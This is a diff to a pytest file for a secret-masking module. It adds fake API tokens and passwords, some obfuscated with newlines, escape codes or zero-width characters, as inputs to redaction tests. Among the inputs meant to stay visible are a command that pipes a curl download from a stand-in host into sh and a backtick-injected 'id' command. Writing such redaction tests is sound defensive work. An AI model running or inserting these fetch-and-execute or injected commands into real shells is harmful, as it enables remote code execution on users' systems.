@@ -79,6 +79,22 @@ SECRETS = [
     "sq0atp-abcdefghij",
     "xapp-1-A012345678",
     "glffct-abcdefghij",
+    "NpmToken.0a1b2c3d-0000-4000-8000-0123456789ab",
+    "ApiKey-0a1b2c3d-0000-4000-8000-0123456789ab",
+    "rzp_live_abcdefghijklmn",
+    "AVNS_abcdefghijklmnopqrs",
+    "django-insecure-a1b2c3!b@c#d$e%f^",
+    "0123456789abcdef0123456789abcdef0123NRAL",
+    # Letters of hex in hex; words torn by what nobody sees.
+    "3736633537333939316634613630643165336339373663353733393931",
+    "glpat-Kzhl4J\nh3qgHqFJoKhG\nLf",
+    "glpat-Kzhl4J\x1b[0mh3qgHqFJoKhG\u200bLf",
+    "dapic4a7f750\t784171275886208f455b7c02",
+    # In quotes, also with blanks.
+    "export TOKEN='hunter2'",
+    'PASSWORD="correct horse"',
+    "Server=db;User=sa;DB_PWD=hunter2",
+    "SMTP_PASS=hunter2",
 ]
 #: What people need to see, and is none.
 OPEN = [
@@ -100,6 +116,10 @@ OPEN = [
     "AzureUSGovernmentCloud",
     "the token of user 'u' is not used; use Bearer tokens, or Basic authentication",
     "password=***",
+    "password='***' token=\"$TOKEN\" secret=''",
+    'TOKEN="$(curl https://h.example/x|sh)"',
+    "token='`id`'",
+    "PWD=/home/me bypass=1 compass=2",
     "--client-secret=$CLIENT_SECRET",
     "insecure-skip-tls-verify",
     "the headers X-Auth-Token: and Cookie: are sent",
@@ -136,7 +156,7 @@ def test_which_digits_end_a_word_makes_no_difference(start: str, number: str) ->
 @pytest.mark.parametrize("text", SECRETS)
 def test_a_secret_is_one_by_its_shape(text: str) -> None:
     assert is_secret(text)
-    assert is_secret(f"user {text!r} has it") or "\n" in text
+    assert is_secret(f"user {text!r} has it") or not text.isprintable()
     for show in (shown.name, shown.path, shown.url, shown.command, shown.key, shown.plain, shown.line, shown.path_of):
         assert text not in show(text)
 
@@ -495,6 +515,8 @@ def test_what_people_need_is_shown(text: str) -> None:
         ("getting token: exec: kubelogin2 not found", ""),
         ("no token: /home/me/token2 does not exist", ""),
         ("a\x1b[2Jb", r"a\x1b[2Jb"),
+        ("error: curl -u me:horse x; git --user='me:horse'", "error: curl -u me:*** x; git --user='me:***'"),
+        ("docker run -u 1000:1000 x", ""),
         ("password: 930037", "password: ***"),
         ("password is mauve-horse-battery-tulip", "password is ***"),
         ('the passphrase of the key is "horse"', 'the passphrase of the key is "***"'),
@@ -519,6 +541,8 @@ def test_what_a_program_says_is_passed_on_without_secrets(said: str, expected: s
 
 SHOWN: list[tuple[Callable[[str], str], str, str]] = [
     (shown.name, "it's", "it's"),
+    (shown.name, "Dev\nCluster of the\nTeam", r"Dev\nCluster of the\nTeam"),
+    (shown.name, "a b\nglpat-Kzhl4J\nh3qgHqFJoKhG\nLf", MASK),
     (shown.quoted_name, "it's", '"it\'s"'),
     (shown.quoted_name, "a\x1b[2Jb\u202ec\r\n", "'a\\x1b[2Jb\\u202ec\\r\\n'"),
     (shown.path, "/etc/ssl/ca.crt", "/etc/ssl/ca.crt"),
@@ -547,6 +571,10 @@ SHOWN: list[tuple[Callable[[str], str], str, str]] = [
     (shown.command, "/opt/k/bin/kubelogin", "/opt/k/bin/kubelogin"),
     (shown.command, "sh -c 'curl -H hunter2'", "sh ***"),
     (shown.command, "gcloud --token hunter2", "gcloud ***"),
+    (shown.command, "sh\n-c\nx", "sh ***"),
+    (shown.command, "UpUldXT2UfOTa\nb3Kq9ZxLmWvNs", "*** (2 lines)"),
+    (lambda text: shown.host_of("p.example", text), "http://p.example/a", "p.example"),
+    (lambda text: shown.host_of("hunter", text), "http://hunter/S@p.example", "*** (6 characters)"),
     (shown.command, "/bin/sh -c curl hunter2/x/y", "/bin/sh ***"),
     (shown.key, "insecure-skip-tls-verfiy", "insecure-skip-tls-verfiy"),
     (shown.key, "hunter2", "***"),
